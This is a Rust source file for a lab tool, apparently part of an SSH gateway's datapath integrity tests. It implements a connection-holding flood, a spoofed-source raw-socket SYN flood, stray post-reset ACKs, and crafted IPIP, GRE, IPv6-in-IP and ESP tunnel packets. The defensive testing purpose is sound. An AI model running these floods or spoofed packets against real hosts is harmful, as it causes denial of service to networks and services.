//! What a user's device can throw at the gateway's datapath, for the datapath integrity
//! tests (`tests/tests/datapath_integrity.rs`). Runs in the lab's device namespace.
//!
//! ```text
//! sshgw-attack connections SRC DST PORT COUNT
//!     Holds COUNT TCP connections from SRC (the namespace's default source for DST) to
//!     DST:PORT open and reopens every one the far end closes, until killed. Prints
//!     `open COUNT` the first time all are open.
//! sshgw-attack syn-flood SRC DST[/PREFIX] PORT COUNT
//!     Sends COUNT TCP SYNs from SRC, with random source ports and sequence numbers, to
//!     DST:PORT (or to random addresses in DST/PREFIX) through a raw socket, prints
//!     `sent COUNT` and exits. SRC need not be configured on the device (IP_TRANSPARENT):
//!     then nothing answers the SYN-ACKs, and each SYN holds a request socket on the
//!     gateway until the kernel gives up on it.
//! sshgw-attack stray SRC DST PORT
//!     Opens a TCP connection from SRC to DST:PORT, reads the first 4 bytes the far end sends
//!     (`SSH-` from the gateway), resets it (SO_LINGER 0), then sends three bare ACKs of
//!     the same 4-tuple through a raw socket, 50 ms apart: late packets of a flow whose
//!     socket is gone. Prints `sent 3`.
//! sshgw-attack encap SRC DST PROTO [dstopts]
//!     Sends one IP packet of protocol PROTO (4 IPIP, 41 IPv6-in-IP, 47 GRE, 50 ESP) from SRC
//!     to DST, carrying a TCP SYN to port 22 (ESP: an opaque payload). `dstopts` puts an IPv6
//!     destination options header in front of it.
//! ```

use std::io::{ErrorKind, Read, Write};
use std::mem::size_of;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, TcpStream};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::time::Duration;

use anyhow::{Context, Result, bail, ensure};

fn main() -> Result<()> {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let arg = |i: usize, what: &str| -> Result<&str> {
        args.get(i)
            .map(String::as_str)
            .with_context(|| format!("missing {what}; see the usage in the source"))
    };
    let mode = arg(0, "MODE")?;
    let src: IpAddr = arg(1, "SRC")?.parse().context("SRC")?;
    let (dst, prefix) = match arg(2, "DST")?.split_once('/') {
        Some((addr, len)) => (addr, Some(len.parse::<u32>().context("PREFIX")?)),
        None => (arg(2, "DST")?, None),
    };
    let dst: IpAddr = dst.parse().context("DST")?;
    match mode {
        "connections" | "syn-flood" => {
            let dst = SocketAddr::new(dst, arg(3, "PORT")?.parse().context("PORT")?);
            let count: usize = arg(4, "COUNT")?.parse().context("COUNT")?;
            if mode == "connections" {
                hold_connections(src, dst, count)
            } else {
                let host_bits = prefix.map_or(0, |p| if dst.is_ipv4() { 32 } else { 128 } - p);
                syn_flood(src, dst, host_bits.min(32), count)
            }
        }
        "stray" => {
            let dst = SocketAddr::new(dst, arg(3, "PORT")?.parse().context("PORT")?);
            stray_acks(src, dst)
        }
        "encap" => {
            let proto: u8 = arg(3, "PROTO")?.parse().context("PROTO")?;
            let dstopts = args.get(4).is_some_and(|a| a == "dstopts");
            encap(src, dst, proto, dstopts)
        }
        other => bail!("unknown mode {other:?}"),
    }
}

/// How long one connect may take (a SYN dropped by the gateway is retried after 1 s).
const CONNECT_TIMEOUT: Duration = Duration::from_secs(3);

/// The connection flood: `count` connections, reopened as they close.
fn hold_connections(src: IpAddr, dst: SocketAddr, count: usize) -> Result<()> {
    let mut conns: Vec<Option<TcpStream>> = (0..count).map(|_| None).collect();
    let mut announced = false;
    loop {
        let mut open = 0;
        for slot in conns.iter_mut() {
            if slot.as_ref().is_some_and(is_open) {
                open += 1;
                continue;
            }
            *slot = match TcpStream::connect_timeout(&dst, CONNECT_TIMEOUT) {
                Ok(stream) => {
                    let local = stream.local_addr()?.ip();
                    ensure!(local == src, "connected from {local}, not from {src}");
                    stream.set_nonblocking(true)?;
                    Some(stream)
                }
                Err(_) => None,
            };
        }
        if open == count && !announced {
            println!("open {count}");
            std::io::stdout().flush()?;
            announced = true;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// Whether the far end has not closed the connection (data may be waiting: still open).
fn is_open(stream: &TcpStream) -> bool {
    match stream.peek(&mut [0u8; 1]) {
        Ok(0) => false,
        Ok(_) => true,
        Err(e) => e.kind() == ErrorKind::WouldBlock,
    }
}

/// Late ACKs of a flow the gateway took, sent after both ends dropped its sockets.
fn stray_acks(src: IpAddr, dst: SocketAddr) -> Result<()> {
    let mut stream = TcpStream::connect_timeout(&dst, CONNECT_TIMEOUT)?;
    let local = stream.local_addr()?;
    ensure!(local.ip() == src, "connected from {local}, not from {src}");
    stream.set_read_timeout(Some(Duration::from_secs(10)))?;
    let mut first = [0u8; 4];
    stream
        .read_exact(&mut first)
        .context("the far end's first bytes")?;
    ensure!(
        &first == b"SSH-",
        "the far end sent {first:?}, not an SSH banner"
    );
    let reset = libc::linger {
        l_onoff: 1,
        l_linger: 0,
    };
    nix::sys::socket::setsockopt(&stream, nix::sys::socket::sockopt::Linger, &reset)?;
    drop(stream);
    let sock = raw_socket(src, libc::IPPROTO_TCP as u8)?;
    if dst.is_ipv6() {
        setsockopt(&sock, libc::IPPROTO_IPV6, libc::IPV6_CHECKSUM, &16)?;
    }
    let segment = tcp_segment(src, dst, local.port(), 1, TCP_ACK);
    for _ in 0..3 {
        // Apart, so that one of them surely comes after the reset has removed the socket.
        std::thread::sleep(Duration::from_millis(50));
        while !send(&sock, dst.ip(), &segment)? {
            std::thread::yield_now();
        }
    }
    println!("sent 3");
    Ok(())
}

/// A raw socket of IP protocol `proto` bound to `src` (which need not be local); the
/// kernel writes the IP header.
#[allow(unsafe_code)] // reason: a raw socket(2) and bind(2) through libc
fn raw_socket(src: IpAddr, proto: u8) -> Result<OwnedFd> {
    let family = if src.is_ipv4() {
        libc::AF_INET
    } else {
        libc::AF_INET6
    };
    // SAFETY: plain socket(2); the fd is owned from here on.
    let fd = unsafe { libc::socket(family, libc::SOCK_RAW | libc::SOCK_CLOEXEC, proto.into()) };
    ensure!(fd >= 0, "raw socket: {}", std::io::Error::last_os_error());
    let sock = unsafe { OwnedFd::from_raw_fd(fd) };
    // Transparent: bind to and send from an address the device does not have.
    let (level, transparent) = if src.is_ipv4() {
        (libc::IPPROTO_IP, libc::IP_TRANSPARENT)
    } else {
        (libc::IPPROTO_IPV6, libc::IPV6_TRANSPARENT)
    };
    setsockopt(&sock, level, transparent, &1)?;
    let (sa, len) = sockaddr(SocketAddr::new(src, 0));
    // SAFETY: the sockaddr is valid for `len` bytes.
    let ret = unsafe { libc::bind(sock.as_raw_fd(), std::ptr::from_ref(&sa).cast(), len) };
    ensure!(ret == 0, "bind {src}: {}", std::io::Error::last_os_error());
    Ok(sock)
}

/// Sends `payload` to `dst`; `false` when the device queue is full (try again).
#[allow(unsafe_code)] // reason: sendto(2) with a raw sockaddr through libc
fn send(sock: &OwnedFd, dst: IpAddr, payload: &[u8]) -> Result<bool> {
    let (sa, len) = sockaddr(SocketAddr::new(dst, 0));
    // SAFETY: the buffer and the sockaddr are valid for the lengths given.
    let ret = unsafe {
        libc::sendto(
            sock.as_raw_fd(),
            payload.as_ptr().cast(),
            payload.len(),
            0,
            std::ptr::from_ref(&sa).cast(),
            len,
        )
    };
    if ret >= 0 {
        return Ok(true);
    }
    let err = std::io::Error::last_os_error();
    ensure!(
        err.raw_os_error() == Some(libc::ENOBUFS),
        "sendto {dst}: {err}"
    );
    Ok(false)
}

/// The SYN flood through a raw TCP socket, to random addresses that differ from `dst` in
/// the last `host_bits` bits.
fn syn_flood(src: IpAddr, dst: SocketAddr, host_bits: u32, count: usize) -> Result<()> {
    let sock = raw_socket(src, libc::IPPROTO_TCP as u8)?;
    if dst.is_ipv6() {
        // The kernel fills in the TCP checksum at offset 16.
        setsockopt(&sock, libc::IPPROTO_IPV6, libc::IPV6_CHECKSUM, &16)?;
    }
    let mut rng = Xorshift::seeded();
    let mask = u32::MAX.checked_shr(32 - host_bits).unwrap_or(0);
    let mut sent = 0;
    while sent < count {
        let host = rng.next() & mask;
        let to = SocketAddr::new(with_host(dst.ip(), host, mask), dst.port());
        let segment = syn_segment(src, to, rng.next() as u16 | 1024, rng.next());
        if send(&sock, to.ip(), &segment)? {
            sent += 1;
        } else {
            // A full device queue: let it drain.
            std::thread::yield_now();
        }
    }
    println!("sent {sent}");
    Ok(())
}

/// `addr` with its lowest bits (`mask`) replaced by `host`.
fn with_host(addr: IpAddr, host: u32, mask: u32) -> IpAddr {
    match addr {
        IpAddr::V4(a) => IpAddr::V4(Ipv4Addr::from((u32::from(a) & !mask) | host)),
        IpAddr::V6(a) => {
            let (mask, host) = (u128::from(mask), u128::from(host));
            IpAddr::V6(Ipv6Addr::from((u128::from(a) & !mask) | host))
        }
    }
}

/// The inner addresses of the tunnel packets (as a tunnel endpoint would assign them).
const INNER_SRC_V4: Ipv4Addr = Ipv4Addr::new(10, 99, 0, 1);
const INNER_SRC_V6: Ipv6Addr = Ipv6Addr::new(0xfd99, 0, 0, 0, 0, 0, 0, 1);

/// One tunnel packet of protocol `proto` to `dst`, carrying a SYN to `dst`:22.
#[allow(unsafe_code)] // reason: setsockopt(IPV6_DSTOPTS) with a raw option buffer
fn encap(src: IpAddr, dst: IpAddr, proto: u8, dstopts: bool) -> Result<()> {
    let sock = raw_socket(src, proto)?;
    if dstopts {
        ensure!(dst.is_ipv6(), "dstopts needs IPv6");
        // An empty destination options header: next header (filled in by the kernel),
        // length 0, and a 6-byte PadN option.
        let opts: [u8; 8] = [0, 0, 1, 4, 0, 0, 0, 0];
        // SAFETY: the option buffer is valid for its length.
        let ret = unsafe {
            libc::setsockopt(
                sock.as_raw_fd(),
                libc::IPPROTO_IPV6,
                libc::IPV6_DSTOPTS,
                opts.as_ptr().cast(),
                opts.len() as libc::socklen_t,
            )
        };
        ensure!(
            ret == 0,
            "IPV6_DSTOPTS: {}",
            std::io::Error::last_os_error()
        );
    }
    let inner_v4 = |dst: IpAddr| match dst {
        IpAddr::V4(d) => d,
        IpAddr::V6(_) => Ipv4Addr::new(10, 99, 0, 2),
    };
    let inner_v6 = |dst: IpAddr| match dst {
        IpAddr::V6(d) => d,
        IpAddr::V4(_) => Ipv6Addr::new(0xfd99, 0, 0, 0, 0, 0, 0, 2),
    };
    let payload = match proto {
        4 => ipv4_syn(INNER_SRC_V4, inner_v4(dst)),
        41 => ipv6_syn(INNER_SRC_V6, inner_v6(dst)),
        // GRE: no flags, version 0, protocol IPv4.
        47 => [
            &[0u8, 0, 0x08, 0][..],
            &ipv4_syn(INNER_SRC_V4, inner_v4(dst)),
        ]
        .concat(),
        // ESP: SPI, sequence number, then what would be ciphertext.
        50 => [&[0u8, 0, 1, 0, 0, 0, 0, 1][..], &[0u8; 48]].concat(),
        other => bail!("no tunnel packet for IP protocol {other}"),
    };
    while !send(&sock, dst, &payload)? {
        std::thread::yield_now();
    }
    println!("sent {proto}");
    Ok(())
}

/// An IPv4 packet holding a SYN from `src`:40000 to `dst`:22.
fn ipv4_syn(src: Ipv4Addr, dst: Ipv4Addr) -> Vec<u8> {
    let tcp = syn_segment(
        IpAddr::V4(src),
        SocketAddr::new(IpAddr::V4(dst), 22),
        40000,
        1,
    );
    let mut ip = vec![
        0x45,
        0,
        0,
        40,
        0,
        1,
        0x40,
        0,
        64,
        libc::IPPROTO_TCP as u8,
        0,
        0,
    ];
    ip.extend_from_slice(&src.octets());
    ip.extend_from_slice(&dst.octets());
    let sum = checksum(&ip);
    ip[10..12].copy_from_slice(&sum.to_be_bytes());
    ip.extend_from_slice(&tcp);
    ip
}

/// An IPv6 packet holding a SYN from `src`:40000 to `dst`:22.
fn ipv6_syn(src: Ipv6Addr, dst: Ipv6Addr) -> Vec<u8> {
    let mut tcp = syn_segment(
        IpAddr::V6(src),
        SocketAddr::new(IpAddr::V6(dst), 22),
        40000,
        1,
    );
    let mut pseudo = Vec::with_capacity(60);
    pseudo.extend_from_slice(&src.octets());
    pseudo.extend_from_slice(&dst.octets());
    pseudo.extend_from_slice(&[0, 0, 0, 20, 0, 0, 0, libc::IPPROTO_TCP as u8]);
    pseudo.extend_from_slice(&tcp);
    tcp[16..18].copy_from_slice(&checksum(&pseudo).to_be_bytes());
    let mut ip = vec![0x60, 0, 0, 0, 0, 20, libc::IPPROTO_TCP as u8, 64];
    ip.extend_from_slice(&src.octets());
    ip.extend_from_slice(&dst.octets());
    ip.extend_from_slice(&tcp);
    ip
}

const TCP_SYN: u8 = 0x02;
const TCP_ACK: u8 = 0x10;

/// A 20-byte TCP SYN header; its checksum is filled in for IPv4 (the kernel computes it for
/// IPv6 raw sockets, and `ipv6_syn` does it for inner packets).
fn syn_segment(src: IpAddr, dst: SocketAddr, sport: u16, seq: u32) -> [u8; 20] {
    tcp_segment(src, dst, sport, seq, TCP_SYN)
}

/// A 20-byte TCP header with `flags` (the ACK number, if any, is 0), checksummed as
/// `syn_segment` is.
fn tcp_segment(src: IpAddr, dst: SocketAddr, sport: u16, seq: u32, flags: u8) -> [u8; 20] {
    let mut tcp = [0u8; 20];
    tcp[0..2].copy_from_slice(&sport.to_be_bytes());
    tcp[2..4].copy_from_slice(&dst.port().to_be_bytes());
    tcp[4..8].copy_from_slice(&seq.to_be_bytes());
    tcp[12] = 5 << 4; // data offset: 5 words, no options
    tcp[13] = flags;
    tcp[14..16].copy_from_slice(&64240u16.to_be_bytes()); // window
    if let (IpAddr::V4(s), IpAddr::V4(d)) = (src, dst.ip()) {
        let mut pseudo = Vec::with_capacity(32);
        pseudo.extend_from_slice(&s.octets());
        pseudo.extend_from_slice(&d.octets());
        pseudo.extend_from_slice(&[0, libc::IPPROTO_TCP as u8, 0, 20]);
        pseudo.extend_from_slice(&tcp);
        tcp[16..18].copy_from_slice(&checksum(&pseudo).to_be_bytes());
    }
    tcp
}

/// The Internet checksum (RFC 1071) of an even-length buffer.
fn checksum(data: &[u8]) -> u16 {
    let mut sum: u32 = data
        .chunks(2)
        .map(|w| u32::from(u16::from_be_bytes([w[0], w[1]])))
        .sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

#[allow(unsafe_code)] // reason: writes a sockaddr_in/in6 into a sockaddr_storage
fn sockaddr(addr: SocketAddr) -> (libc::sockaddr_storage, libc::socklen_t) {
    // SAFETY: all-zero is a valid sockaddr_storage.
    let mut storage: libc::sockaddr_storage = unsafe { std::mem::zeroed() };
    let len = match addr {
        SocketAddr::V4(a) => {
            let sin = libc::sockaddr_in {
                sin_family: libc::AF_INET as libc::sa_family_t,
                sin_port: a.port().to_be(),
                sin_addr: libc::in_addr {
                    s_addr: u32::from_ne_bytes(a.ip().octets()),
                },
                sin_zero: [0; 8],
            };
            // SAFETY: sockaddr_storage is larger than sockaddr_in and suitably aligned.
            unsafe { std::ptr::write(std::ptr::from_mut(&mut storage).cast(), sin) };
            size_of::<libc::sockaddr_in>()
        }
        SocketAddr::V6(a) => {
            let sin6 = libc::sockaddr_in6 {
                sin6_family: libc::AF_INET6 as libc::sa_family_t,
                sin6_port: a.port().to_be(),
                sin6_flowinfo: 0,
                sin6_addr: libc::in6_addr {
                    s6_addr: a.ip().octets(),
                },
                sin6_scope_id: 0,
            };
            // SAFETY: as above, for sockaddr_in6.
            unsafe { std::ptr::write(std::ptr::from_mut(&mut storage).cast(), sin6) };
            size_of::<libc::sockaddr_in6>()
        }
    };
    (storage, len as libc::socklen_t)
}

#[allow(unsafe_code)] // reason: setsockopt(2) through libc
fn setsockopt(sock: &OwnedFd, level: i32, name: i32, value: &libc::c_int) -> Result<()> {
    // SAFETY: `value` is a valid c_int for the given length.
    let ret = unsafe {
        libc::setsockopt(
            sock.as_raw_fd(),
            level,
            name,
            std::ptr::from_ref(value).cast(),
            size_of::<libc::c_int>() as libc::socklen_t,
        )
    };
    ensure!(ret == 0, "setsockopt: {}", std::io::Error::last_os_error());
    Ok(())
}

/// A small PRNG for source ports and sequence numbers (no crypto needed).
struct Xorshift(u32);

impl Xorshift {
    fn seeded() -> Self {
        let nanos = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .map_or(1, |d| d.subsec_nanos());
        Xorshift((nanos ^ std::process::id()) | 1)
    }

    fn next(&mut self) -> u32 {
        let mut x = self.0;
        x ^= x << 13;
        x ^= x >> 17;
        x ^= x << 5;
        self.0 = x;
        x
    }
}
